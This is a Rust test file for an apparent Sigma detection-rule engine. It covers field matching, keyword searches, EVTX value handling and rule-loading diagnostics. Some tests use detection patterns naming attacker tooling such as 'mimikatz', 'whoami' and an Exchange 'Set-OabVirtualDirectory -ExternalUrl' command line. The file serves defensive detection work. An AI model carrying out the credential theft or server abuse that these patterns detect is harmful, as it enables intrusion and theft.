        m(r"User: ''", json!({"User": "x"}), false),
        m(r"User: ''", json!({}), false),
        m(r"User: ''", json!({"User": null}), false),
        m(r"User|neq: ''", json!({"User": "x"}), true),
        m(r"User|neq: ''", json!({"User": ""}), false),
    ]);
}

#[test]
#[rustfmt::skip]
fn numbers_and_strings() {
    let ev = |id: Value| {
        json!({"Event": {
            "System": {"Channel": common::SYSMON, "EventID": id},
            "EventData": {"Image": "C:\\x.exe"},
        }})
    };
    let wrapped = json!({"#text": 1, "#attributes": {"Qualifiers": 0}});
    run(vec![
        m(r"EventID: 1", ev(json!(1)), true),
        m(r"EventID: '1'", ev(json!(1)), true),
        m(r"EventID: 1", ev(json!("1")), true),
        m(r"EventID: 10", ev(json!(1)), false),
        m(r"EventID: [3, 1]", ev(json!(1)), true),
        m(r"EventID: 1", ev(wrapped), true),
        m(r"Count: 5", json!({"Count": 5}), true),
        m(r"Count: 5", json!({"Count": "5"}), true),
        m(r"Count: 5", json!({"Count": 15}), false),
        m(r"Count: '5'", json!({"Count": 5}), true),
        m(r"Count: 5", json!({"Count": "05"}), false),
        // A YAML float keeps its written form.
        m(r"FileVersion: 1.10", json!({"FileVersion": "1.10"}), true),
        m(r"FileVersion: 1.10", json!({"FileVersion": "1.1"}), false),
        // Booleans are compared as text.
        m(r"Signed: true", json!({"Signed": true}), true),
        m(r"Signed: true", json!({"Signed": "True"}), true),
        m(r"Signed: false", json!({"Signed": true}), false),
    ]);
}

#[test]
#[rustfmt::skip]
fn lists_of_values_and_lists_of_maps() {
    let list_of_maps = "sel:\n  - {Image|endswith: '\\a.exe'}\n  - {CommandLine|contains: 'evil', User: 'bob'}\ncondition: sel";
    run(vec![
        m(r"Image|endswith: ['\a.exe', '\b.exe']", json!({"Image": "C:\\B.exe"}), true),
        m(r"Image|endswith: ['\a.exe', '\b.exe']", json!({"Image": "C:\\c.exe"}), false),
        m(r"Image: ['C:\a.exe', 'C:\b.exe']", json!({"Image": "C:\\b.exe"}), true),
        // Items of a map are AND-linked.
        m(r"Image|endswith: '\a.exe', User: 'bob'", json!({"Image": "C:\\a.exe", "User": "bob"}), true),
        m(r"Image|endswith: '\a.exe', User: 'bob'", json!({"Image": "C:\\a.exe", "User": "eve"}), false),
        m(r"Image|endswith: '\a.exe', User: 'bob'", json!({"Image": "C:\\a.exe"}), false),
        // Maps of a list are OR-linked.
        d(list_of_maps, json!({"Image": "C:\\a.exe"}), true),
        d(list_of_maps, json!({"CommandLine": "so evil", "User": "bob"}), true),
        d(list_of_maps, json!({"CommandLine": "so evil", "User": "eve"}), false),
        d(list_of_maps, json!({"Image": "C:\\b.exe", "CommandLine": "fine"}), false),
    ]);
}

#[test]
#[rustfmt::skip]
fn keyword_searches() {
    let any = "keywords:\n  - 'whoami'\n  - 'mimikatz'\ncondition: keywords";
    let all = "keywords:\n  '|all':\n    - 'OabVirtualDirectory'\n    - ' -ExternalUrl '\ncondition: keywords";
    let user_data = json!({"Event": {
        "System": {"Channel": common::SYSMON, "EventID": 1},
        "UserData": {"Wrapper": {"Param": "run WHOAMI"}},
    }});
    run(vec![
        d(any, json!({"CommandLine": "x WhoAmI /all"}), true),
        d(any, json!({"Image": "C:\\tools\\mimikatz.exe"}), true),
        d(any, json!({"CommandLine": "dir"}), false),
        d(any, json!({}), false),
        d(any, user_data, true),
        // Keywords are searched in the event data only (the profile's keyword roots), not in
        // the System header (its Computer is "host1").
        d("keywords: ['host1']\ncondition: keywords", json!({"CommandLine": "x"}), false),
        d("keywords: 'whoami'\ncondition: keywords", json!({"CommandLine": "whoami"}), true),
        d("keywords: ['who*ami']\ncondition: keywords", json!({"CommandLine": "whoXXami"}), true),
        d("keywords: ['1234']\ncondition: keywords", json!({"ProcessId": 1234}), true),
        d("keywords: ['-1.5']\ncondition: keywords", json!({"Ratio": -1.5}), true),
        d("keywords: ['x-1']\ncondition: keywords", json!({"Ratio": -1}), false),
        d("keywords: ['whoami']\ncondition: keywords", json!({"Args": ["a", "whoami"]}), true),
        d(all, json!({"CommandLine": "Set-OabVirtualDirectory -ExternalUrl http://x"}), true),
        d(all, json!({"CommandLine": "Set-OabVirtualDirectory -InternalUrl http://x"}), false),
        // `all`: each keyword somewhere in the event.
        d(all, json!({"CommandLine": "OabVirtualDirectory", "Other": "a -ExternalUrl b"}), true),
        d("keywords:\n  '|re': 'who.mi'\ncondition: keywords", json!({"CommandLine": "whoami"}), true),
        d("keywords:\n  '|cased': ['WhoAmI']\ncondition: keywords", json!({"CommandLine": "whoami"}), false),
        d("keywords:\n  '|cased': ['WhoAmI']\ncondition: keywords", json!({"CommandLine": "x WhoAmI"}), true),
    ]);
}

#[test]
#[rustfmt::skip]
fn arrays_and_wrapped_values_in_the_event() {
    run(vec![
        m(r"Image|endswith: '\whoami.exe'", json!({"Image": ["C:\\a.exe", "C:\\whoami.exe"]}), true),
        m(r"Image|endswith: '\whoami.exe'", json!({"Image": ["C:\\a.exe", "C:\\b.exe"]}), false),
        m(r"Image: 'b'", json!({"Image": [["a"], ["b"]]}), true),
        m(r"CommandLine|re: '^x'", json!({"CommandLine": ["ax", "xa"]}), true),
        m(r"DestinationIp|cidr: '10.0.0.0/8'", json!({"DestinationIp": ["1.1.1.1", "10.0.0.1"]}), true),
        // EVTX values wrapped in `#text`.
        m(r"Image|endswith: '\whoami.exe'", json!({"Image": {"#text": "C:\\whoami.exe", "#attributes": {"Name": "Image"}}}), true),
        m(r"Image|endswith: '\whoami.exe'", json!({"Image": {"#text": "C:\\a.exe"}}), false),
        m(r"Count|gt: 5", json!({"Count": {"#text": "7"}}), true),
        m(r"Count|gt: 5", json!({"Count": {"#text": 3}}), false),
        m(r"User|exists: true", json!({"User": {"#text": "x"}}), true),
    ]);
}

// Diagnostics.

/// Loads one file and returns its diagnostics as (code, line).
fn diagnostics(text: &str) -> Vec<(String, usize)> {
    let set = RuleSet::load([("broken.yml", text)], &LoadOptions::default());
    assert!(
        set.rules.is_empty(),
        "a broken rule loaded: {:?}",
        set.rules[0].title
    );
    set.diagnostics
        .iter()
        .map(|d| (d.code.as_str().to_string(), d.line))
        .collect()
}

/// File line of the given (1-based) detection line of [`rule_text`].
fn line(detection_line: usize) -> usize {
    HEADER_LINES + 1 + detection_line
}

#[test]
#[rustfmt::skip]
fn broken_rules_get_coded_diagnostics_at_the_right_line() {
    let cases: Vec<(String, &str, usize)> = vec![
        (rule_text("sel:\n  Image|nope: 'x'\ncondition: sel"), "S005", line(2)),
        (rule_text("sel:\n  Image|endswith: 'x'\n  CommandLine|re: '(('\ncondition: sel"), "S015", line(3)),
        (rule_text("sel:\n  User|expand: '%Nope%'\ncondition: sel"), "S007", line(2)),
        (rule_text("sel:\n  Image: 'x'\ncondition: sel | count() by User > 5"), "S008", line(3)),
        (rule_text("sel:\n  Image: 'x'\ncondition: sel and nope"), "S004", line(3)),
        (rule_text("sel:\n  Image: 'x'\ncondition: 1 of filter*"), "S004", line(3)),
        (rule_text("sel:\n  DestinationIp|cidr: 'ten/8'\ncondition: sel"), "S006", line(2)),
        (rule_text("sel:\n  Count|gt: 'many'\ncondition: sel"), "S006", line(2)),
        (rule_text("sel:\n  Image: 'x'\ncondition: sel and"), "S003", line(3)),
        (rule_text("sel:\n  Image: 'x'"), "S003", line(1)),
        (rule_text("sel:\n  CommandLine|base64: 'a*'\ncondition: sel"), "S006", line(2)),
        (rule_text("sel:\n  CommandLine|re|contains: 'a'\ncondition: sel"), "S006", line(2)),
        (rule_text("sel:\n  CommandLine|i: 'a'\ncondition: sel"), "S006", line(2)),
        (rule_text("sel:\n  User|exists: 'yes'\ncondition: sel"), "S006", line(2)),
        (rule_text("sel:\n  UtcTime|hour: 'noon'\ncondition: sel"), "S006", line(2)),
        (rule_text("sel:\n  User: {a: b}\ncondition: sel"), "S012", line(2)),
        (rule_text("sel:\n  User: []\ncondition: sel"), "S012", line(2)),
        (rule_text("sel: [[a]]\ncondition: sel"), "S012", line(1)),
        // No detection, no title: the document's first line.
        ("title: no detection\nlogsource:\n  product: windows\nlevel: low\n".into(), "S002", 1),
        ("\n\nlogsource:\n  product: windows\ndetection:\n  sel: {Image: x}\n  condition: sel\n".into(), "S002", 3),
        // Invalid YAML: where the parser notices.
        ("title: bad yaml\ndetection:\n  sel: {Image: 'x'\n  condition: sel\n".into(), "S001", 4),
        ("title: bad yaml\ndetection:\n  sel:\n    Image: 'x'\n   condition: sel\n".into(), "S001", 5),
    ];
    let mut failures = Failures::default();
    for (text, code, want_line) in &cases {
        let got = diagnostics(text);
        if got != [(code.to_string(), *want_line)] {
            failures.push(format!("{text}\n    expected [({code}, {want_line})], got {got:?}"));
        }
    }
    failures.assert_none();
}

#[test]
fn diagnostics_point_at_the_column_too() {
    // The key of the unknown modifier: `    Image|nope` starts in column 5.
    let text = rule_text("sel:\n  Image|nope: 'x'\ncondition: sel");
    let set = RuleSet::load([("r.yml", text.as_str())], &LoadOptions::default());
    let d = &set.diagnostics[0];
    assert_eq!((d.code.as_str(), d.line, d.col), ("S005", line(2), 5));
    assert_eq!(d.file, "r.yml");
    assert_eq!(d.severity, Severity::Error);
    assert!(d.message.contains("nope"), "{}", d.message);
    // The aggregation: `  condition: sel | count() > 5`, the pipe is in column 18.
    let text = rule_text("sel:\n  Image: 'x'\ncondition: sel | count() > 5");
    let set = RuleSet::load([("r.yml", text.as_str())], &LoadOptions::default());
    let d = &set.diagnostics[0];
    assert_eq!((d.code.as_str(), d.line, d.col), ("S008", line(3), 18));
}

#[test]
fn a_folder_with_broken_rules_still_loads_the_good_ones() {
    let good1 = common::rule_text_with(
        "00000000-0000-0000-0000-00000000000a",
        "sel: {Image|endswith: '\\whoami.exe'}\ncondition: sel",
    );
    let bad_modifier = common::rule_text_with(
        "00000000-0000-0000-0000-00000000000b",
        "sel: {Image|nope: 'x'}\ncondition: sel",
    );
    let good2 = common::rule_text_with(
        "00000000-0000-0000-0000-00000000000c",
        "sel: {CommandLine|contains: '/all'}\ncondition: sel",
    );
    let bad_yaml = "title: [unclosed\n";
    // Two documents in one file: the broken second one does not take the first with it.
    let two_docs = format!(
        "{}---\n{}",
        common::rule_text_with(
            "00000000-0000-0000-0000-00000000000d",
            "sel: {User: 'bob'}\ncondition: sel",
        ),
        common::rule_text_with(
            "00000000-0000-0000-0000-00000000000e",
            "sel: {User: 'bob'}\ncondition: nope",
        )
    );
    let files = [
        ("rules/good1.yml", good1.as_str()),
        ("rules/bad_modifier.yml", bad_modifier.as_str()),
        ("rules/good2.yml", good2.as_str()),
        ("rules/bad_yaml.yml", bad_yaml),
        ("rules/two_docs.yml", two_docs.as_str()),
    ];
    let set = RuleSet::load(files.iter().copied(), &LoadOptions::default());
    let ids: Vec<&str> = set.rules.iter().filter_map(|r| r.id.as_deref()).collect();
    assert_eq!(
        ids,
        [
            "00000000-0000-0000-0000-00000000000a",
            "00000000-0000-0000-0000-00000000000c",
            "00000000-0000-0000-0000-00000000000d"
        ]
    );
    let diags: Vec<(&str, &str)> = set
        .diagnostics
        .iter()
        .map(|d| (d.file.as_str(), d.code.as_str()))
        .collect();
    assert_eq!(
        diags,
        [
            ("rules/bad_modifier.yml", "S005"),
            ("rules/bad_yaml.yml", "S001"),
            ("rules/two_docs.yml", "S004"),
        ]
    );
    // The second document of two_docs.yml starts after the first one and its `---`; its
    // condition is on detection line 2.
    let first_doc_lines = good1.lines().count();
    assert_eq!(set.diagnostics[2].line, first_doc_lines + 1 + line(2));

    // The good rules work.
    let profiles = ProfileSet::builtin();
    let event = common::event(
        SourceKind::Evtx,
        sysmon1(json!({"Image": "C:\\whoami.exe", "CommandLine": "whoami /all", "User": "bob"})),
        &profiles,
    );
    let rules = set.rules.clone();
    let engine = leitstelle_sigma::Engine::compile(set.rules, &profiles);
    let got = engine.matches(&event, &mut leitstelle_sigma::Scratch::new());
    assert_eq!(got, [0, 1, 2]);
    assert_eq!(
        leitstelle_sigma::reference::matches(&rules, &profiles, &event),
        got
    );
}

#[test]
fn duplicate_ids_and_deprecated_rules_are_skipped_with_a_diagnostic() {
    let a = common::rule_text_with(
        "00000000-0000-0000-0000-00000000000a",
        "sel: {User: 'a'}\ncondition: sel",
    );
    let deprecated = a
        .replace("0000000a", "0000000b")
        .replace("level: low", "status: deprecated\nlevel: low");
    let files = [
        ("a.yml", a.as_str()),
        ("again.yml", a.as_str()),
        ("old.yml", deprecated.as_str()),
        ("deprecated/a.yml", a.as_str()),
    ];
    let set = RuleSet::load(files, &LoadOptions::default());
    assert_eq!(set.rules.len(), 1);
    let diags: Vec<(&str, &str, Severity)> = set
        .diagnostics
        .iter()
        .map(|d| (d.file.as_str(), d.code.as_str(), d.severity))
        .collect();
    assert_eq!(
        diags,
        [
            ("again.yml", "S013", Severity::Error),
            ("old.yml", "S009", Severity::Skipped),
            ("deprecated/a.yml", "S009", Severity::Skipped),
        ]
    );
    let opts = LoadOptions {
        include_deprecated: true,
        ..LoadOptions::default()
    };
    let set = RuleSet::load([("old.yml", deprecated.as_str())], &opts);
    assert_eq!((set.rules.len(), set.diagnostics.len()), (1, 0));
}

/// Found by the differential test: folding can make a value shorter in bytes (`ẞ`, three
/// bytes, folds to `ß`, two), and whole-value lookups must still find it.
#[test]
fn folding_that_shortens_a_value_still_matches_whole_values() {
    run(vec![
        m(r"CommandLine: 'ß'", json!({"CommandLine": "ẞ"}), true),
        m(r"CommandLine: 'ẞ'", json!({"CommandLine": "ß"}), true),
        m(
            r"CommandLine|cased: 'ß'",
            json!({"CommandLine": "ẞ"}),
            false,
        ),
    ]);
}
